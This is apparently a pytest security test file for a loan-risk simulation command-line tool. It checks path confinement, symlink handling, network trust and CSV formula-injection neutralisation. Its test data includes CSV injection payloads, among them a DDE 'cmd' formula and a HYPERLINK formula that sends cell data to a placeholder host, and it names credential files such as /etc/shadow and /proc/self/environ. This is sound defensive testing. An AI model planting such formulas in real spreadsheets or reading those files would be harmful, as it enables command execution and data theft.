"""A scenario file is data, never a capability (issue 15, point 0).

It reads only regular .csv/.parquet files inside its own folder (or a folder the user
allows), never opens a network connection unless the user trusts it, never gets a file's
contents shown back beyond a short escaped excerpt, and the text it brings in (loan ids,
ratings, sectors) reaches every CSV output neutralised against formula injection.
"""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path

import pytest
from click.testing import CliRunner

from risksim.cli.commands import main
from risksim.errors import EXCERPT_CHARS

SCENARIO = """\
name: security check
currency: CNY
horizon: {{years: 1, periods_per_year: 1}}
portfolio:
  file: {file}
defaults:
  correlation: 0.15
arrangement:
  parties: [bank, guarantor]
  layers:
    - {{party: guarantor, share_of_loss: 0.4}}
    - {{party: bank, residual: true}}
simulation: {{n_sims: 2000, seed: 1{simulation}}}
"""

SECRET = "TOPSECRET-7f3a"
"""A sentinel: no message may show it."""

HOSTILE = ['=HYPERLINK("http://example.invalid/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)",
           "\tTAB", "=cmd|' /C calc'!A0"]
"""Text cells a spreadsheet would run as formulas (OWASP CSV injection)."""


def write_scenario(folder: Path, file: str, simulation: str = "",
                   name: str = "scenario.yaml") -> Path:
    """A scenario in ``folder`` whose portfolio is ``file``."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_text(SCENARIO.format(file=file, simulation=simulation), "utf-8")
    return path


def write_book(path: Path, header_extra: str = "") -> Path:
    """Twelve loans, ids, ratings and sectors the hostile texts (PD 10%, so tails have
    defaults)."""
    lines = [f"loan_id,exposure,pd,lgd,rating,sector{header_extra}"]
    for i in range(12):
        text = HOSTILE[i % len(HOSTILE)]
        cells = [f"{text} {i}", "100000", "0.1", "0.45", text, text][:6] + (
            ["0"] if header_extra else [])
        lines.append(",".join('"' + c.replace('"', '""') + '"' for c in cells))
    path.write_text("\n".join(lines) + "\n", "utf-8")
    return path


def invoke(*args: str | Path) -> tuple[int, str]:
    """Run the CLI in-process: (exit code, standard output and error)."""
    result = CliRunner().invoke(main, [str(a) for a in args])
    return result.exit_code, result.output


def assert_one_line_error(code: int, output: str, *parts: str) -> str:
    """Exit code 2 and one ``error:`` line holding ``parts``; the line."""
    lines = output.strip().splitlines()
    assert code == 2, output
    assert len(lines) == 1 and lines[0].startswith("error: "), output
    for part in parts:
        assert part in lines[0], lines[0]
    assert "Traceback" not in output
    return lines[0]


@pytest.mark.parametrize("name", ["/etc/passwd", "/proc/self/environ", "/etc/shadow.csv",
                                  "/proc/self/environ.csv"])
def test_absolute_paths_outside_the_folder_are_refused_unread(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    monkeypatch.setenv("RISKSIM_TEST_SECRET", SECRET)
    scenario = write_scenario(tmp_path / "s", name)
    # Line 5 holds portfolio.file (see SCENARIO).
    for command in ("validate", "run"):
        code, output = invoke(command, scenario)
        line = assert_one_line_error(code, output, f"{scenario}:5: portfolio.file: ")
        assert SECRET not in output and "root:" not in output
        assert ("outside the scenario's folder" in line) or ("expected a .csv" in line)


def test_parent_folder_and_symlinks_out_of_the_folder_are_refused(tmp_path: Path) -> None:
    book = write_book(tmp_path / "outside.csv", header_extra=f",{SECRET}")
    folder = tmp_path / "scenarios"
    (folder / "data").mkdir(parents=True)
    (folder / "data" / "link.csv").symlink_to(book)
    for name in ("../outside.csv", "data/../../outside.csv", "data/link.csv", str(book)):
        code, output = invoke("validate", write_scenario(folder, name))
        assert_one_line_error(code, output, "portfolio.file", "outside the scenario's folder",
                              "--allow-dir")
        assert SECRET not in output


def test_allow_dir_lets_the_user_open_another_folder(tmp_path: Path) -> None:
    (tmp_path / "shared").mkdir()
    write_book(tmp_path / "shared" / "loans.csv")
    scenario = write_scenario(tmp_path / "scenarios", "../shared/loans.csv")
    assert invoke("validate", scenario)[0] == 2
    code, output = invoke("validate", "--allow-dir", tmp_path / "shared", scenario)
    assert code == 0, output
    assert "ok - security check (12 loans" in output


def test_a_link_inside_the_folder_to_a_file_inside_it_is_read(tmp_path: Path) -> None:
    folder = tmp_path / "s"
    folder.mkdir()
    write_book(folder / "loans.csv")
    (folder / "alias.csv").symlink_to(folder / "loans.csv")
    code, output = invoke("validate", write_scenario(folder, "alias.csv"))
    assert code == 0, output


@pytest.mark.timeout(60)
def test_a_fifo_or_a_folder_is_not_opened(tmp_path: Path) -> None:
    folder = tmp_path / "s"
    folder.mkdir()
    os.mkfifo(folder / "pipe.csv")  # opening it for reading would block for ever
    (folder / "dir.csv").mkdir()
    for name in ("pipe.csv", "dir.csv"):
        code, output = invoke("validate", write_scenario(folder, name))
        assert_one_line_error(code, output, "portfolio.file", "is not a regular file")


def test_other_kinds_of_file_are_refused(tmp_path: Path) -> None:
    folder = tmp_path / "s"
    folder.mkdir()
    write_book(folder / "loans.txt")
    code, output = invoke("validate", write_scenario(folder, "loans.txt"))
    assert_one_line_error(code, output, "portfolio.file", "expected a .csv or .parquet file")


def test_a_files_contents_are_quoted_only_as_a_short_escaped_excerpt(tmp_path: Path) -> None:
    folder = tmp_path / "s"
    folder.mkdir()
    # A header cell that is a long secret with a terminal escape in it: the unknown-column
    # error quotes at most EXCERPT_CHARS characters of it, escaped.
    long_cell = "\x1b[2J" + "A" * EXCERPT_CHARS + SECRET
    write_book(folder / "loans.csv", header_extra="," + long_cell)
    code, output = invoke("validate", write_scenario(folder, "loans.csv"))
    line = assert_one_line_error(code, output, "loans.csv:1: unknown column ")
    assert SECRET not in line and "\x1b" not in line
    assert "'\\x1b[2J" + "A" * (EXCERPT_CHARS - 4) + "'…" in line


def test_a_long_value_in_the_scenario_is_cut_in_the_error(tmp_path: Path) -> None:
    scenario = write_scenario(tmp_path, "loans.csv")
    scenario.write_text(scenario.read_text().replace("currency: CNY",
                                                     f"currency: {'X' * 10_000}"))
    line = assert_one_line_error(*invoke("validate", scenario), ":2: currency: ")
    assert len(line) < 300, line


@pytest.mark.parametrize(("simulation", "field"), [
    (", backend: dask, address: 'tcp://127.0.0.1:8786'", "simulation.address"),
    (", backend: dask", "simulation.backend")])
def test_a_scenario_cannot_open_a_connection_unless_trusted(tmp_path: Path, simulation: str,
                                                            field: str) -> None:
    write_book(tmp_path / "loans.csv")
    scenario = write_scenario(tmp_path, "loans.csv", simulation)
    for command in ("validate", "run"):
        code, output = invoke(command, scenario)
        # Line 13 holds the simulation mapping.
        assert_one_line_error(code, output, f"{scenario}:13: {field}: ", "--trust-scenario")
    code, output = invoke("validate", "--trust-scenario", scenario)
    assert code == 0, output


def test_the_command_line_address_needs_no_trust(tmp_path: Path) -> None:
    """--address is the user's own choice: it is used (and refused here only because nothing
    listens there, not because of the file)."""
    write_book(tmp_path / "loans.csv")
    scenario = write_scenario(tmp_path, "loans.csv")
    code, output = invoke("run", scenario, "--address", "tcp://127.0.0.1:1", "--quiet")
    assert_one_line_error(code, output, "address: ")
    assert "trust" not in output


def _text_cells(path_or_text: Path | str) -> list[str]:
    text = path_or_text.read_text("utf-8") if isinstance(path_or_text, Path) else path_or_text
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    return [cell for cell in cells if cell and not _is_number(cell)]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_neutralised(cells: list[str], where: str) -> None:
    """No text cell starts a formula, none holds a control character, and the hostile
    texts are there, behind an apostrophe."""
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (where, cell)
        assert not any(ord(c) < 32 or 127 <= ord(c) < 160 for c in cell), (where, cell)
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells), (where, cells[:20])


def test_hostile_text_reaches_every_csv_output_neutralised(tmp_path: Path) -> None:
    write_book(tmp_path / "loans.csv")
    scenario = write_scenario(tmp_path, "loans.csv")
    other = write_scenario(tmp_path, "loans.csv", name="other.yaml")
    other.write_text(other.read_text().replace("share_of_loss: 0.4", "share_of_loss: 0.6"))
    outputs = tmp_path / "out"
    outputs.mkdir()
    commands = {
        "contributions": ["contributions", scenario, "--by", "loan", "--quiet",
                          "--out", outputs / "contributions.csv"],
        "contributions by rating": ["contributions", scenario, "--by", "rating", "--quiet",
                                    "--out", outputs / "by_rating.csv"],
        "price": ["price", scenario, "--party", "guarantor", "--by", "rating", "--quiet",
                  "--out", outputs / "price.csv"],
    }
    for where, args in commands.items():
        code, output = invoke(*args)
        assert code == 0, (where, output)
        assert_neutralised(_text_cells(Path(args[-1])), where)
        code, output = invoke(*args[:-2], "--format", "csv")
        assert code == 0, (where, output)
        assert_neutralised(_text_cells(output), f"{where} --format csv")
    # Every CSV the other commands write carries only party and measure names: none of
    # them may start a formula either.
    for args in (["run", scenario, "--quiet", "--out", outputs / "run"],
                 ["compare", scenario, other, "--quiet", "--out", outputs / "compare"]):
        code, output = invoke(*args)
        assert code == 0, output
        for path in Path(args[-1]).glob("*.csv"):
            for cell in _text_cells(path):
                assert not cell.startswith(("=", "+", "-", "@")), (path, cell)


def test_a_checkpoint_never_follows_a_link_out_of_the_output_folder(tmp_path: Path) -> None:
    write_book(tmp_path / "loans.csv")
    scenario = write_scenario(tmp_path, "loans.csv")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    out = tmp_path / "out"
    out.mkdir()
    (out / "checkpoint").symlink_to(elsewhere, target_is_directory=True)
    code, output = invoke("run", scenario, "--quiet", "--out", out)
    assert_one_line_error(code, output, "checkpoint", "symbolic link")
    assert list(elsewhere.iterdir()) == []
    assert sorted(p.name for p in out.iterdir()) == ["checkpoint"]
